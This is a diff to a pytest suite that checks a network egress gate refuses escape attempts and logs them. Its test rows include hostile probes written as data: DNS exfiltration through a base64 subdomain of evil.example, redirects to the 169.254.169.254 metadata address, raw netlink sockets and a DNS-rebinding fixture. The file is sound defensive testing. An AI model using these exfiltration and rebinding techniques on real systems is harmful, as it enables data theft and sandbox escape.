@@ -9,6 +9,8 @@ import time
 import pytest
 
 import patience
+from carrel import BUILD
+from conftest import Gated
 from tally import attack, counts
 
 
@@ -75,9 +77,10 @@ ROWS = [
     ("the gate's own port", "say(dial('127.0.0.1', 3129, b'GET / HTTP/1.1\\r\\n\\r\\n'))", ["reset"], "that is the gate itself", None, None),
     ("another host through the proxy", "say(dial('127.0.0.1', 3128, b'GET http://other.test:{http}/ HTTP/1.1\\r\\nHost: other.test:{http}\\r\\nConnection: close\\r\\n\\r\\n'))", ["403"], "no rule allows it", None, None),
     ("another host by CONNECT", "say(dial('127.0.0.1', 3128, b'CONNECT other.test:{http} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test:{http}\\r\\n\\r\\n').split('HTTP/1.1 ')[-1])", ["403"], "no rule allows it", None, None),
-    ("a name query to a server outside", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.sendto(b'x' * 30, ('8.8.8.8', 53)); say('sent')\nexcept OSError as e: say(e.strerror)", ["Operation not permitted"], None, None, None),
-    ("an IPv6 address", "s = socket.socket(socket.AF_INET6)\ntry: s.connect(('2001:db8::1', 443)); say('reached')\nexcept OSError as e: say(e.strerror)", ["Network is unreachable"], None, None, None),
-    ("data hidden in a name", "say(socket.gethostbyname('c2VjcmV0.evil.example'))", ["198.18."], None, None, None),
+    # What the kernel refuses in the call itself never comes to the gate: that the same by TCP is refused stands in the journal.
+    ("a name query to a server outside", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.sendto(b'x' * 30, ('8.8.8.8', 53)); say('sent')\nexcept OSError as e: say(e.strerror)\ndial('8.8.8.8', 53, b'x' * 30)", ["Operation not permitted"], "no rule allows it", None, None),
+    ("an IPv6 address", "s = socket.socket(socket.AF_INET6)\ntry: s.connect(('2001:db8::1', 443)); say('reached')\nexcept OSError as e: say(e.strerror)\ndial('203.0.113.7', 443, b'x' * 30)", ["Network is unreachable"], "no rule allows it", None, None),
+    ("data hidden in a name", "say(socket.gethostbyname('c2VjcmV0.evil.example') + get('c2VjcmV0.evil.example', 80))", ["403"], "no rule allows it", None, None),
 ]
 
 
@@ -115,7 +118,9 @@ def test_refused(gated_session, servers, box, row):
     if journal is not None:
         notes = gated_session.notes(box, verb="net.deny", count=before + 1)
         assert journal in notes[-1]["reason"], notes[-1]
-        counts["with their entry in the journal"] += 1
+    else:  # it was made harmless, and went on as what it then is
+        assert gated_session.notes(box, verb="net.allow")[-1]["detail"]["path"] == "/"
+    counts["with their entry in the journal"] += 1
     if rule:
         m = gated_session.machine(net=[{"target": fill(rule), "local": True}])
         done = gated_session.python(m, PRELUDE + fill(script))
@@ -129,8 +134,11 @@ def test_control_every_allowed_thing_gets_through(gated_session, servers, box):
 
 
 def test_a_redirect_does_not_lead_out(gated_session, servers, box):
+    before = len(gated_session.notes(box, verb="net.deny", count=0))
     done = gated_session.exec(box, ["curl", "-sSL", "--max-time", "20", f"http://ok.test:{servers.http}/redirect"])
     assert json.loads(done["stdout"])["error"]["message"].endswith("'169.254.169.254:80'")
+    assert gated_session.notes(box, verb="net.deny", count=before + 1)[-1]["detail"]["host"] == "169.254.169.254"
+    attack()
 
 
 def test_slow_requests_end(gated_session, servers, box):
@@ -189,9 +197,12 @@ n = socket.socket(16, 3, 0); n.bind((0, 0))
 n.send(struct.pack("IHHII", 16 + 16, 17, 5, 1, 0) + struct.pack("BBBBI", 0, 0, 0, 1, 1) + b"\\0" * 8)
 reply = n.recv(4096); say(struct.unpack("i", reply[16:20])[0])
 """
-    out = gated_session.python(box, script, user="root")["stdout"].split()
-    assert out[0] != "done" and out[1] == "PermissionError" and int(out[2]) < 0
-    attack(3, journalled=False)
+    before = len(gated_session.notes(box, verb="net.deny", count=0))
+    out = gated_session.python(box, script + "say(get('203.0.113.7', 80))", user="root")["stdout"].split()
+    assert out[0] != "done" and out[1] == "PermissionError" and int(out[2]) < 0 and "403" in out
+    # The line is where it was: what it then tried is refused, and written down.
+    assert gated_session.notes(box, verb="net.deny", count=before + 1)[-1]["detail"]["host"] == "203.0.113.7"
+    attack(3)
 
 
 # ---- servers that lie ----
@@ -281,6 +292,7 @@ for _ in range(20):
     except OSError: pass
 print("done")
 """.replace("\\\\", "\\")
+    before = len(gated_session.notes(box, count=0))
     x = gated_session.background(box, ["python3", "-c", script], timeout="60s")
     other = gated_session.machine(net=[{"target": f"ok.test:{servers.http}", "local": True}])
     for _ in range(5):
@@ -288,4 +300,56 @@ print("done")
         done = gated_session.exec(other, ["curl", "-sS", "--max-time", "20", f"http://ok.test:{servers.http}/meanwhile"])
         assert '"/meanwhile"' in done["stdout"] and time.monotonic() - began < 5 * patience.PATIENCE, done
     gated_session.wait(box, x, 90)
-    attack(20, journalled=False)
+    # Each that got as far as a request is in the journal: let through and closed, or refused for what it lacked.
+    verbs = {n["verb"] for n in gated_session.notes(box, count=before + 20, seconds=30)[before:]}
+    assert verbs <= {"net.allow", "net.close", "net.deny"} and verbs, verbs
+    attack(20)
+
+
+# ---- names that change ----
+
+
+class Named(socketserver.ThreadingTCPServer):
+    """Says at which address it was reached."""
+    daemon_threads = True
+    allow_reuse_address = True
+
+    def __init__(self, address, port=0):
+        class Handler(socketserver.StreamRequestHandler):
+            def handle(self):
+                self.rfile.readline()
+                text = address.encode()
+                self.wfile.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(text), text))
+        super().__init__((address, port), Handler)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def turning(servers, tmp_path):
+    """A daemon whose name server changes its mind after the first question."""
+    preload = BUILD / "tests/daemon/libturn-names.so"
+    d = Gated(servers.dir / "ca.pem")
+    d.kill()
+    d.start(env={"LD_PRELOAD": str(preload), "TURN_NAMES": str(tmp_path / "asked")})
+    yield d
+    d.stop()
+
+
+def test_a_name_that_is_turned_leads_where_it_was_looked_up(turning, tmp_path):
+    """What was looked at is what is dialled: a second answer, which leads elsewhere, is nobody's."""
+    first = Named("127.0.0.2")
+    port = first.server_address[1]
+    second = Named("127.0.0.1", port)
+    box = turning.machine()
+    turning.allow(box, f"http://a.turn.test:{port}")
+    for _ in range(5):
+        assert turning.python(box, PRELUDE + f"say(get('a.turn.test', {port}))")["stdout"].split()[-1] == "127.0.0.2"
+    assert {n["detail"]["address"].rsplit(":", 1)[0] for n in turning.notes(box, verb="net.allow", count=5)} == {"127.0.0.2"}
+    assert (tmp_path / "asked").read_text() == "a.turn.test\n", "it is looked up once"
+    # Another name is asked for now, and answered with what no rule allows: refused by the address, whatever the name.
+    turning.post(f"/v1/machines/{box}/net/rules", {"target": f"http://b.turn.test:{port}"})
+    done = turning.python(box, PRELUDE + f"say(get('b.turn.test', {port}))")
+    assert "403" in done["stdout"] and "leads to a loopback address" in turning.notes(box, verb="net.deny")[-1]["reason"], done
+    for s in (first, second):
+        s.shutdown()
+    attack(6)
